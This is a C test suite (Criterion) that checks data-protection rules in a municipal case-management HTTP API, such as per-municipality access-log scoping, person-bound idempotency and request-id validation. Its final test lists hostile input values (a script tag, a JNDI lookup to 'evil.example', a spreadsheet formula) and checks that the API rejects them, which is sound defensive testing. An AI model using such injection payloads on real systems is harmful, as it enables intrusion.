/* Data protection over HTTP (issue 10, points 8-13): every access-log row belongs to the
 * municipality whose data the use showed, so an auditor sees the uses of their own
 * municipality's data and nothing of another's; idempotent answers belong to the person,
 * not only to the token's subject; registering a person another municipality knows
 * answers as a new registration would; a case reads the same to every reader allowed to
 * see it; and request ids and staff identifiers keep to safe sets. The tests use the
 * shared municipalities 101 and 751 and find their rows by request id and citizen. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "fixtures.h"

#define M1 FX_MUNICIPALITY
#define M2 FX_OTHER_MUNICIPALITY

/* GET path as a with a fresh X-Request-Id (written to rid); asserts 200 and returns the
 * body (the caller json_decref's it). */
static json_t *traced_get(const struct fx_actor *a, const char *path, char rid[64])
{
    fx_unique("privacy", rid, 64);
    const struct http_header h[] = {{"X-Request-Id", rid}};
    struct http_response r;
    fx_call("GET", path, a, NULL, h, 1, &r);
    fx_assert_status(&r, 200);
    json_t *doc = fx_body(&r);
    http_response_free(&r);
    return doc;
}

/* How many of the auditor's access-log rows about citizen_id carry request id rid. */
static size_t audited(const struct fx_actor *auditor, const char *citizen_id, const char *rid)
{
    char path[160];
    snprintf(path, sizeof(path), "/v1/access-log?limit=100&citizen_id=%s", citizen_id);
    json_t *doc = fx_get_json(auditor, path);
    cr_assert(json_is_null(json_object_get(doc, "next_cursor")), "more than a page of rows about one citizen");
    size_t i, n = 0;
    json_t *row;
    json_array_foreach(json_object_get(doc, "items"), i, row) {
        const char *got = json_string_value(json_object_get(row, "request_id"));
        if (got && strcmp(got, rid) == 0)
            n++;
    }
    json_decref(doc);
    return n;
}

/* Rows with request id rid that name municipality m (NULL: none), as the schema owner
 * counts them: the auditors' view cannot tell a row of theirs from a row of nobody's. */
static long long rows_in(const char *rid, const char *m)
{
    const char *params[] = {rid, m};
    return fx_owner_value("SELECT count(*) FROM access_log WHERE request_id = $1 "
                          "AND municipality IS NOT DISTINCT FROM $2",
                          2, params);
}

/* The world of point 8: one citizen registered in M1 and M2, and each municipality's
 * caseworker and auditor. */
struct two_places {
    struct fx_actor cw1, cw2, au1, au2, citizen;
    char cpr[11], citizen_id[FX_UUID_LEN], again[FX_UUID_LEN];
};

static void two_places_open(struct two_places *w)
{
    fx_staff(&w->cw1, "caseworker", M1);
    fx_staff(&w->cw2, "caseworker", M2);
    fx_staff(&w->au1, "auditor", M1);
    fx_staff(&w->au2, "auditor", M2);
    fx_new_citizen(&w->cw1, w->cpr, w->citizen_id);
    fx_register_citizen(&w->cw2, w->cpr, w->again);
    cr_assert_str_eq(w->again, w->citizen_id);
    fx_citizen(&w->citizen, w->cpr);
}

static void two_places_close(struct two_places *w)
{
    fx_actor_free(&w->citizen);
    fx_actor_free(&w->au2);
    fx_actor_free(&w->au1);
    fx_actor_free(&w->cw2);
    fx_actor_free(&w->cw1);
}

Test(data_protection, a_citizens_search_is_logged_once_for_each_municipality_whose_data_it_showed,
     .timeout = FX_TIMEOUT * 2)
{
    struct two_places w;
    two_places_open(&w);
    char case1[FX_UUID_LEN], case2[FX_UUID_LEN], d1[FX_UUID_LEN], d2[FX_UUID_LEN], rid[64];
    fx_create_case(&w.cw1, w.citizen_id, NULL, case1);
    fx_issued_decision(&w.cw1, case1, "placement", "granted", NULL, d1);

    /* Only M1's data is shown: M2's auditor, where the citizen is also registered, sees
     * nothing of it. */
    json_t *doc = traced_get(&w.citizen, "/v1/decisions?limit=100", rid);
    cr_assert_eq(json_array_size(json_object_get(doc, "items")), 1);
    json_decref(doc);
    cr_assert_eq(audited(&w.au1, w.citizen_id, rid), 1, "M1's auditor does not see the search of M1's decision");
    cr_assert_eq(audited(&w.au2, w.citizen_id, rid), 0, "M2's auditor sees a search that showed only M1's data");
    cr_assert_eq(rows_in(rid, M1), 1);
    cr_assert_eq(rows_in(rid, NULL), 0, "a search that showed data wrote a row of no municipality");

    /* A list of one case's interventions (none yet) names the case: it is M1's. */
    char path[128];
    snprintf(path, sizeof(path), "/v1/cases/%s/interventions", case1);
    json_decref(traced_get(&w.citizen, path, rid));
    cr_assert_eq(rows_in(rid, M1), 1, "the list of an M1 case's interventions is not M1's");
    cr_assert_eq(audited(&w.au2, w.citizen_id, rid), 0, "M2's auditor learns the id of a case in M1");

    /* Both municipalities' data in one answer: a row for each, each audited at home. */
    fx_create_case(&w.cw2, w.citizen_id, NULL, case2);
    fx_issued_decision(&w.cw2, case2, "placement", "granted", NULL, d2);
    doc = traced_get(&w.citizen, "/v1/decisions?limit=100", rid);
    cr_assert_eq(json_array_size(json_object_get(doc, "items")), 2);
    json_decref(doc);
    cr_assert_eq(rows_in(rid, M1), 1, "no row of M1 for the search that showed M1's decision");
    cr_assert_eq(rows_in(rid, M2), 1, "no row of M2 for the search that showed M2's decision");
    cr_assert_eq(rows_in(rid, NULL), 0);
    cr_assert_eq(audited(&w.au1, w.citizen_id, rid), 1);
    cr_assert_eq(audited(&w.au2, w.citizen_id, rid), 1);
    two_places_close(&w);
}

Test(data_protection, the_boards_list_of_appeals_is_audited_only_where_the_appeal_belongs,
     .timeout = FX_TIMEOUT * 2)
{
    struct two_places w;
    two_places_open(&w);
    struct fx_actor board;
    fx_national(&board, "appeals_board");
    char case1[FX_UUID_LEN], d1[FX_UUID_LEN], appeal[FX_UUID_LEN], rid[64], path[128], today[11];
    fx_today(today);
    fx_create_case(&w.cw1, w.citizen_id, NULL, case1);
    fx_issued_decision(&w.cw1, case1, "placement", "refused", today, d1);
    fx_file_appeal(&w.cw1, d1, today, "written", NULL, appeal);
    json_decref(fx_reconsider(&w.cw1, appeal, "upheld", today, NULL, "Kommunen fastholder afgørelsen."));

    snprintf(path, sizeof(path), "/v1/appeals?decision_id=%s", d1);
    json_t *doc = traced_get(&board, path, rid);
    cr_assert_eq(json_array_size(json_object_get(doc, "items")), 1, "the board does not see the forwarded appeal");
    json_decref(doc);
    cr_assert_eq(audited(&w.au1, w.citizen_id, rid), 1, "M1's auditor does not see the board's look at M1's appeal");
    cr_assert_eq(audited(&w.au2, w.citizen_id, rid), 0, "M2's auditor learns of an appeal in M1");
    cr_assert_eq(rows_in(rid, M1), 1);
    fx_actor_free(&board);
    two_places_close(&w);
}

/* A citizen token with sub and cpr. Free with fx_actor_free. */
static void citizen_as(struct fx_actor *a, const char *sub, const char *cpr)
{
    memset(a, 0, sizeof(*a));
    snprintf(a->role, sizeof(a->role), "citizen");
    snprintf(a->sub, sizeof(a->sub), "%s", sub);
    snprintf(a->cpr, sizeof(a->cpr), "%s", cpr);
    a->token = fx_token("citizen", sub, NULL, cpr);
}

Test(data_protection, idempotent_answers_belong_to_the_person_not_only_the_subject, .timeout = FX_TIMEOUT * 2)
{
    struct fx_actor cw, a, b;
    char cpr_a[11], cpr_b[11], id_a[FX_UUID_LEN], id_b[FX_UUID_LEN], case_a[FX_UUID_LEN], d[FX_UUID_LEN],
        key[64], sub[64];
    fx_staff(&cw, "caseworker", M1);
    fx_new_case(&cw, cpr_a, id_a, case_a);
    fx_new_citizen(&cw, cpr_b, id_b);
    fx_issued_decision(&cw, case_a, "placement", "refused", NULL, d);
    /* One subject, two people: a broker that reuses a subject must not mix them up. */
    fx_unique("shared", sub, sizeof(sub));
    citizen_as(&a, sub, cpr_a);
    citizen_as(&b, sub, cpr_b);
    fx_unique("idem", key, sizeof(key));
    const struct http_header h[] = {{"Idempotency-Key", key}};

    struct http_response first, second;
    fx_call("POST", "/v1/appeals", &a, json_pack("{s:s}", "decision_id", d), h, 1, &first);
    fx_assert_status(&first, 201);
    json_t *appeal = fx_body(&first);
    const char *appeal_id = json_string_value(json_object_get(appeal, "id"));
    cr_assert(appeal_id);

    fx_call("POST", "/v1/appeals", &b, json_pack("{s:s}", "decision_id", d), h, 1, &second);
    cr_assert_null(http_response_header(&second, "Idempotent-Replayed"),
                   "another person with the same subject was handed the first person's answer");
    cr_assert_null(strstr(second.body, appeal_id), "another person was shown the first person's appeal");
    fx_assert_problem(&second, 404);
    http_response_free(&second);

    /* Positive control: the first person's retry is a replay. */
    fx_call("POST", "/v1/appeals", &a, json_pack("{s:s}", "decision_id", d), h, 1, &second);
    fx_assert_status(&second, 201);
    const char *mark = http_response_header(&second, "Idempotent-Replayed");
    cr_assert(mark && strcmp(mark, "true") == 0, "the same person's retry was not a replay");
    http_response_free(&second);

    json_decref(appeal);
    http_response_free(&first);
    fx_actor_free(&b);
    fx_actor_free(&a);
    fx_actor_free(&cw);
}

/* POST /v1/citizens as a with cpr and name (NULL: left out); asserts status and returns the
 * document (the caller json_decref's it). */
static json_t *register_as(const struct fx_actor *a, const char *cpr, const char *name, int status)
{
    struct http_response r;
    fx_call("POST", "/v1/citizens", a, json_pack("{s:s, s:s*}", "cpr", cpr, "name", name), NULL, 0, &r);
    fx_assert_status(&r, status);
    json_t *doc = fx_body(&r);
    char want[96];
    snprintf(want, sizeof(want), "/v1/citizens/%s", json_string_value(json_object_get(doc, "id")));
    const char *location = http_response_header(&r, "Location");
    cr_assert(location && strcmp(location, want) == 0, "Location %s, want %s", location ? location : "(none)",
              want);
    http_response_free(&r);
    return doc;
}

/* Fails unless doc has exactly the members of a citizen document. */
static void assert_citizen_members(json_t *doc)
{
    static const char *const keys[] = {"id", "cpr", "cpr_masked", "birth_date", "name", "created_at"};
    cr_assert_eq(json_object_size(doc), sizeof(keys) / sizeof(keys[0]), "a citizen document with other members");
    for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
        cr_assert(json_object_get(doc, keys[i]), "a citizen document without %s", keys[i]);
}

Test(data_protection, registering_a_person_another_municipality_knows_answers_as_a_new_registration,
     .timeout = FX_TIMEOUT)
{
    struct fx_actor cw1, cw2, fresh;
    char cpr[11], cpr_fresh[11], path[96];
    fx_staff(&cw1, "caseworker", M1);
    fx_staff(&cw2, "caseworker", M2);
    fx_staff(&fresh, "caseworker", M2);
    fx_random_cpr(cpr);
    fx_random_cpr(cpr_fresh);

    json_t *in_m1 = register_as(&cw1, cpr, "Anna Andersen", 201);
    const char *id = json_string_value(json_object_get(in_m1, "id"));
    const char *created_m1 = json_string_value(json_object_get(in_m1, "created_at"));

    /* M2 has never heard of the person: the answer is that of a first registration, with
     * only what M2 itself entered. */
    json_t *in_m2 = register_as(&cw2, cpr, NULL, 201);
    json_t *new_one = register_as(&fresh, cpr_fresh, NULL, 201);
    assert_citizen_members(in_m2);
    assert_citizen_members(new_one);
    cr_assert(json_is_null(json_object_get(in_m2, "name")), "M2 was shown the name M1 entered");
    const char *created_m2 = json_string_value(json_object_get(in_m2, "created_at"));
    cr_assert(created_m2 && strcmp(created_m2, created_m1) > 0,
              "M2 was shown when M1 registered the person (%s, M1 %s)", created_m2, created_m1);
    cr_assert_str_eq(json_string_value(json_object_get(in_m2, "cpr")), cpr);

    /* What M2 enters is M2's: its own reads show it, M1's do not. */
    json_decref(register_as(&cw2, cpr, "A. Andersen", 200));
    snprintf(path, sizeof(path), "/v1/citizens/%s", id);
    json_t *read2 = fx_get_json(&cw2, path);
    cr_assert(json_is_null(json_object_get(read2, "name")), "a repeat registration changed M2's record");
    fx_assert_member(read2, "created_at", created_m2);
    json_t *read1 = fx_get_json(&cw1, path);
    fx_assert_member(read1, "name", "Anna Andersen");
    fx_assert_member(read1, "created_at", created_m1);

    /* The person reads what each municipality entered: it is their data. */
    struct fx_actor me;
    fx_citizen(&me, cpr);
    json_t *export = fx_get_json(&me, "/v1/me/export");
    json_t *registrations = json_object_get(export, "registrations");
    cr_assert_eq(json_array_size(registrations), 2, "the export shows %zu registrations, want 2",
                 json_array_size(registrations));
    fx_assert_member(json_array_get(registrations, 0), "municipality", M1);
    fx_assert_member(json_array_get(registrations, 0), "name", "Anna Andersen");
    fx_assert_member(json_array_get(registrations, 0), "registered_at", created_m1);
    fx_assert_member(json_array_get(registrations, 1), "municipality", M2);
    fx_assert_member(json_array_get(registrations, 1), "name", NULL);
    fx_assert_member(json_array_get(registrations, 1), "registered_at", created_m2);
    json_decref(export);
    fx_actor_free(&me);

    json_decref(read1);
    json_decref(read2);
    json_decref(new_one);
    json_decref(in_m2);
    json_decref(in_m1);
    fx_actor_free(&fresh);
    fx_actor_free(&cw2);
    fx_actor_free(&cw1);
}

Test(data_protection, a_letter_is_addressed_by_the_name_the_deciding_municipality_registered,
     .timeout = FX_TIMEOUT)
{
    struct fx_actor cw1, cw2;
    char cpr[11], case2[FX_UUID_LEN], d_named[FX_UUID_LEN], d_unnamed[FX_UUID_LEN], today[11];
    fx_staff(&cw1, "caseworker", M1);
    fx_staff(&cw2, "caseworker", M2);
    fx_random_cpr(cpr);
    fx_today(today);
    json_t *in_m1 = register_as(&cw1, cpr, "Anna Andersen", 201);
    json_t *in_m2 = register_as(&cw2, cpr, NULL, 201);
    const char *id = json_string_value(json_object_get(in_m2, "id"));
    fx_create_case(&cw2, id, NULL, case2);
    fx_issued_decision(&cw2, case2, "placement", "granted", today, d_unnamed);
    json_t *doc = fx_get_decision(&cw2, d_unnamed);
    cr_assert(json_is_null(json_object_get(doc, "addressee")), "M2's letter is addressed by the name M1 entered");
    json_decref(doc);

    /* Positive control: the name M2 itself gives is the one its letters use. */
    struct fx_actor cw3;
    char cpr3[11], case3[FX_UUID_LEN];
    fx_staff(&cw3, "caseworker", M2);
    fx_random_cpr(cpr3);
    json_decref(register_as(&cw1, cpr3, "Bo Berg", 201));
    json_t *named = register_as(&cw3, cpr3, "Bo B. Berg", 201);
    fx_create_case(&cw3, json_string_value(json_object_get(named, "id")), NULL, case3);
    fx_issued_decision(&cw3, case3, "placement", "granted", today, d_named);
    doc = fx_get_decision(&cw3, d_named);
    fx_assert_member(doc, "addressee", "Bo B. Berg");
    json_decref(doc);

    json_decref(named);
    json_decref(in_m2);
    json_decref(in_m1);
    fx_actor_free(&cw3);
    fx_actor_free(&cw2);
    fx_actor_free(&cw1);
}

/* GET path as a; asserts 200 and writes the ETag; returns the body (json_decref). */
static json_t *get_with_etag(const struct fx_actor *a, const char *path, char etag[32])
{
    struct http_response r;
    fx_call("GET", path, a, NULL, NULL, 0, &r);
    fx_assert_status(&r, 200);
    const char *e = http_response_header(&r, "ETag");
    cr_assert(e && strlen(e) < 32, "no ETag on GET %s", path);
    snprintf(etag, 32, "%s", e);
    json_t *doc = fx_body(&r);
    http_response_free(&r);
    return doc;
}

/* The element of array list whose id is id (borrowed); fails when absent. */
static json_t *with_id(json_t *list, const char *id)
{
    size_t i;
    json_t *item;
    json_array_foreach(list, i, item)
        if (strcmp(json_string_value(json_object_get(item, "id")), id) == 0)
            return item;
    cr_assert_fail("%s is not in the list", id);
    return NULL;
}

Test(data_protection, a_case_reads_the_same_to_the_citizen_and_to_staff, .timeout = FX_TIMEOUT * 2)
{
    struct fx_actor cw, me;
    char cpr[11], citizen_id[FX_UUID_LEN], case_id[FX_UUID_LEN], path[96], staff_etag[32], own_etag[32];
    char other[64], if_match[24];
    fx_staff(&cw, "caseworker", M1);
    fx_new_case(&cw, cpr, citizen_id, case_id);
    fx_citizen(&me, cpr);
    fx_unique("cw", other, sizeof(other));
    json_t *doc = fx_get_case(&cw, case_id);
    fx_if_match(doc, if_match);
    json_decref(doc);
    snprintf(path, sizeof(path), "/v1/cases/%s", case_id);
    const struct http_header h[] = {{"If-Match", if_match}};
    struct http_response r;
    fx_call("PATCH", path, &cw, json_pack("{s:s}", "caseworker", other), h, 1, &r);
    fx_assert_status(&r, 200);
    http_response_free(&r);

    json_t *staff = get_with_etag(&cw, path, staff_etag);
    json_t *own = get_with_etag(&me, path, own_etag);
    fx_assert_integer(staff, "caseworker_changes", 1);
    fx_assert_integer(own, "caseworker_changes", 1);
    cr_assert_str_eq(own_etag, staff_etag);
    cr_assert(json_equal(own, staff), "the citizen and staff read different documents under one ETag");

    json_t *mine = fx_get_json(&me, "/v1/me/cases?limit=100");
    cr_assert(json_equal(with_id(json_object_get(mine, "items"), case_id), staff),
              "/v1/me/cases shows another document than staff read");
    json_t *export = fx_get_json(&me, "/v1/me/export");
    cr_assert(json_equal(with_id(json_object_get(export, "cases"), case_id), staff),
              "the export shows another case document than staff read");

    json_decref(export);
    json_decref(mine);
    json_decref(own);
    json_decref(staff);
    fx_actor_free(&me);
    fx_actor_free(&cw);
}

/* The X-Request-Id the answer to GET /healthz with given carries (static storage). */
static const char *echoed(const char *given)
{
    static char out[128];
    const struct http_header h[] = {{"X-Request-Id", given}};
    struct http_response r;
    fx_call("GET", "/healthz", NULL, NULL, h, 1, &r);
    const char *id = http_response_header(&r, "X-Request-Id");
    cr_assert(id, "no X-Request-Id in the answer");
    snprintf(out, sizeof(out), "%s", id);
    http_response_free(&r);
    return out;
}

Test(data_protection, request_ids_outside_the_safe_pattern_are_replaced, .timeout = FX_TIMEOUT)
{
    static const char *const refused[] = {
        "0101901234",                                                         /* a CPR number's shape */
        "010190-1234",                                                        /* so is this */
        "12345678901234567890",                                               /* digits only */
        "short",                                                              /* under 8 */
        "abcdefgh:ijkl",                                                      /* ':' is not in the set */
        "abc def ghi",
        "a234567890123456789012345678901234567890123456789012345678901234z", /* 65 */
        "1234-5678",                                                          /* no letter */
    };
    for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++)
        cr_assert_str_neq(echoed(refused[i]), refused[i], "X-Request-Id %s was taken", refused[i]);
    static const char *const taken[] = {
        "abcdefgh",
        "Req_2026.12-06-abc",
        "a23456789012345678901234567890123456789012345678901234567890123z", /* 64 */
        "1234567a",
    };
    for (size_t i = 0; i < sizeof(taken) / sizeof(taken[0]); i++)
        cr_assert_str_eq(echoed(taken[i]), taken[i], "X-Request-Id %s was replaced", taken[i]);
}

Test(data_protection, staff_identifiers_outside_the_safe_set_are_refused, .timeout = FX_TIMEOUT * 2)
{
    struct fx_actor cw;
    char cpr[11], citizen_id[FX_UUID_LEN], case_id[FX_UUID_LEN], path[96], if_match[24];
    fx_staff(&cw, "caseworker", M1);
    fx_new_case(&cw, cpr, citizen_id, case_id);
    snprintf(path, sizeof(path), "/v1/cases/%s", case_id);
    static const char *const hostile[] = {"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
                                          "=HYPERLINK(\"x\")", "-cw"};
    for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
        json_t *doc = fx_get_case(&cw, case_id);
        fx_if_match(doc, if_match);
        json_decref(doc);
        const struct http_header h[] = {{"If-Match", if_match}};
        struct http_response r;
        fx_call("PATCH", path, &cw, json_pack("{s:s}", "caseworker", hostile[i]), h, 1, &r);
        cr_assert_eq(r.status, 422, "caseworker %s answered %d", hostile[i], r.status);
        fx_assert_error_pointer(&r, "/caseworker");
        http_response_free(&r);
        fx_call("PATCH", path, &cw, json_pack("{s:s}", "coordinating_caseworker", hostile[i]), h, 1, &r);
        cr_assert_eq(r.status, 422, "coordinating_caseworker %s answered %d", hostile[i], r.status);
        http_response_free(&r);

        /* The same value as a staff token's subject is refused at the door. */
        struct fx_actor forged;
        memset(&forged, 0, sizeof(forged));
        forged.token = fx_token("caseworker", hostile[i], M1, NULL);
        fx_call("GET", path, &forged, NULL, NULL, 0, &r);
        cr_assert_eq(r.status, 401, "a token with subject %s answered %d", hostile[i], r.status);
        http_response_free(&r);
        free(forged.token);
    }

    /* Positive control: identifiers of the documented set are taken. */
    static const char *const fine[] = {"kk-sb.0421", "anna.hansen@vejle.dk", "S1234_x"};
    for (size_t i = 0; i < sizeof(fine) / sizeof(fine[0]); i++) {
        json_t *doc = fx_get_case(&cw, case_id);
        fx_if_match(doc, if_match);
        json_decref(doc);
        const struct http_header h[] = {{"If-Match", if_match}};
        struct http_response r;
        fx_call("PATCH", path, &cw, json_pack("{s:s}", "caseworker", fine[i]), h, 1, &r);
        fx_assert_status(&r, 200);
        http_response_free(&r);
        struct fx_actor staff;
        memset(&staff, 0, sizeof(staff));
        staff.token = fx_token("caseworker", fine[i], M1, NULL);
        fx_call("GET", path, &staff, NULL, NULL, 0, &r);
        fx_assert_status(&r, 200);
        http_response_free(&r);
        free(staff.token);
    }
    fx_actor_free(&cw);
}
